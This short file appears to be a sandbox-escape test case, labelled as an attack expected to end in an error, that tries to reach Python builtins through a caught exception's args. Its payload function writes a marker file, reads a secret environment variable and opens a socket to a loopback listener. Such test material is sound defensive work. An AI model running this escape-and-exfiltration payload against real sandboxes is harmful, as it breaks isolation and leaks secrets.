# attack: reaching builtins through exception args and payload
# expect: smoke; error
def payload(bi):
    """What an escape would do: write the marker, read the secret, dial the listener."""
    bi["open"]("MARKER_PATH", "w").write("escaped")
    os = bi["__import__"]("os")
    secret = os.environ.get("SECRET_NAME", "")
    sock = bi["__import__"]("socket").create_connection(("127.0.0.1", LOOPBACK_PORT))
    return secret

class Mechanism:
    def observe(self, record):
        try:
            {}["missing"]
        except KeyError as e:
            b = getattr(getattr(e, "args"), "__self__")
            payload(b)
